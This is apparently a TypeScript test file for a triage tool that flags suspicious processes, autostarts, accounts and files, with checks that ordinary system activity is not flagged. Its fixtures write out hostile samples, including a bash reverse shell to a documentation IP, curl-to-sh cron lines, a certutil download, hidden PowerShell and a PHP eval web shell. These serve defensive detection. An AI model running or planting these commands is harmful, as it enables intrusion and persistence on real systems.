import { describe, expect, it } from 'vitest'
import { commandFacts } from '../../../src/verbs/triage/commands.ts'
import type { Item, Kind } from '../../../src/verbs/triage/item.ts'
import { judge } from '../../../src/verbs/triage/judge.ts'
import rules from '../../../src/verbs/triage/rules.json' with { type: 'json' }

const item = (kind: Kind, command: string, facts: Record<string, string> = {}, windows = true): Item => {
  const found = commandFacts(command, windows)
  return { kind, subject: 'it', ...found, facts: { ...found.facts, ...facts } }
}
const rulesFor = (one: Item) => judge([one]).flatMap(finding => finding.rules)

describe('the rules of triage', () => {
  it.each<[string, Item]>([
    ['user-writable', item('process', 'C:\\Users\\x\\AppData\\Local\\Temp\\a.exe')],
    ['download', item('service', 'certutil.exe -urlcache -f http://x/y y')],
    ['hidden-shell', item('task', 'powershell.exe -w hidden -c ls')],
    ['office-child', item('process', 'cmd.exe /c whoami', { parent: 'EXCEL.EXE' })],
    ['script-from-user', item('autostart', 'rundll32.exe C:\\Users\\Public\\a.dll,Start')],
    [
      'shell-replaced',
      item('autostart', 'explorer.exe, C:\\x.exe', {
        key: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
        value: 'Shell',
      }),
    ],
    ['double-extension', item('file', '', { name: 'invoice.pdf.exe', path: 'C:\\x\\invoice.pdf.exe' })],
    ['remote-shell', item('process', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', {}, false)],
    ['pipe-to-shell', item('autostart', '* * * * * root curl -s http://x/a | sh', {}, false)],
    ['temporary-start', item('autostart', 'ExecStart=/tmp/.x/run', {}, false)],
    ['temporary-start', item('autostart', "*/5 * * * * root sh -c '/var/tmp/.x/update >/dev/null'", {}, false)],
    ['temporary-program', item('process', '/dev/shm/x -d', {}, false)],
    ['temporary-script', item('process', '/usr/bin/python3 -u /tmp/x.py', {}, false)],
    ['temporary-script', item('process', 'sh -c /var/tmp/x', {}, false)],
    ['deleted-program', item('process', '/home/x/y', { image: '/home/x/y (deleted)' }, false)],
    ['memory-program', item('process', 'kworker', { image: '/memfd:x (deleted)' }, false)],
    ['second-root', item('account', '', { name: 'support', uid: '0' }, false)],
    ['new-key', item('account', '', { keys: 'changed' }, false)],
    ['web-shell', item('file', '', { path: '/var/www/x.php', text: "<?php @eval(base64_decode($_POST['c']));" }, false)],
    ['web-script', item('file', '', { path: '/var/www/shop/uploads/2026/a.php' }, false)],
    ['web-script', item('file', '', { path: '/var/www/.cache.php' }, false)],
    ['pipe-to-shell', item('file', '', { path: '/var/tmp/u', text: 'curl -fsS "http://$host/p" | sh' }, false)],
    ['preload', item('autostart', '/usr/lib/x.so', { path: '/etc/ld.so.preload' }, false)],
  ])('%s', (rule, one) => {
    expect(rulesFor(one)).toContain(rule)
  })

  it('leave alone what computers have anyway', () => {
    for (const [kind, command] of [
      ['process', 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p'],
      ['process', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer'],
      ['service', 'C:\\Windows\\System32\\spoolsv.exe'],
      ['autostart', 'C:\\Users\\x\\AppData\\Local\\Programs\\Teams\\Update.exe --processStart "Teams.exe"'],
      ['process', 'powershell.exe -File C:\\Scripts\\report.ps1'],
    ] as const)
      expect(rulesFor(item(kind, command)), command).toEqual([])
  })

  it('leave alone what Linux has anyway', () => {
    for (const [kind, command, facts] of [
      ['process', 'tail -f /tmp/build.log', {}],
      ['process', '/usr/bin/Xorg :0 -auth /var/tmp/x', {}],
      ['process', 'tmux -S /tmp/tmux-0/default', {}],
      ['autostart', '0 3 * * * root find /tmp -mtime +7 -delete; rm -rf "/var/tmp/build/x"', {}],
      ['autostart', '*/5 * * * * root /usr/bin/backup > /tmp/backup.log', {}],
      ['account', '', { name: 'root', uid: '0' }],
      ['account', '', { keys: 'unchanged' }],
      ['file', '', { path: '/var/www/shop/lib/shop.php', text: '<?php system("true"); echo $_GET["page"];' }],
    ] as const)
      expect(rulesFor(item(kind, command, facts, false)), command).toEqual([])
  })

  it('an update that replaces a running program is only slightly odd', () => {
    const [finding] = judge([item('process', '/usr/sbin/sshd -D', { image: '/usr/sbin/sshd (deleted)' }, false)])
    expect(finding).toMatchObject({ severity: 'low', rules: ['replaced-program'] })
  })

  it('what names a suspicious program leads to it, wherever in its lines that stands', () => {
    const dropper = item('file', '', { text: 'curl http://x | sh' }, false)
    const job = item('autostart', "* * * * * root /bin/sh -c '/opt/app/x >/dev/null'", {}, false)
    const found = judge([
      { ...dropper, path: '/opt/app/x' },
      { ...job, path: '/etc/cron.d/job' },
    ])
    expect(found.map(({ rules }) => rules)).toEqual([['pipe-to-shell'], ['same-program']])
  })

  it('have names of their own, and come to an end whatever they look at', () => {
    const ids = rules.rules.map(({ id }) => id)
    expect(new Set(ids).size).toBe(ids.length)
    const hostile = [
      'curl '.repeat(20_000),
      'bash -i'.repeat(20_000),
      'a'.repeat(200_000),
      '\\users\\'.repeat(30_000),
      'nc -'.repeat(50_000),
      `powershell -enc ${'A'.repeat(100_000)}`,
      ' /tmp/'.repeat(40_000),
      'rm '.repeat(60_000),
      'system('.repeat(30_000),
      `/var/www/${'uploads/'.repeat(20_000)}`,
    ]
    for (const text of hostile)
      expect(judge(['process', 'file', 'task'].map(kind => item(kind as Kind, text, { path: text, name: text })))).toBeInstanceOf(Array)
  })

  it('what a suspicious program is started by is suspicious too', () => {
    const process: Item = {
      ...item('process', 'C:\\Users\\Public\\x.exe'),
      pid: 5,
      subject: 'x.exe (pid 5)',
      facts: { path: 'C:\\Users\\Public\\x.exe', masquerade: 'runs elsewhere' },
    }
    const [, autostart] = judge([process, item('autostart', 'C:\\USERS\\PUBLIC\\X.EXE')])
    expect(autostart?.reason).toContain('leads to x.exe (pid 5), which is suspicious itself')
  })
})
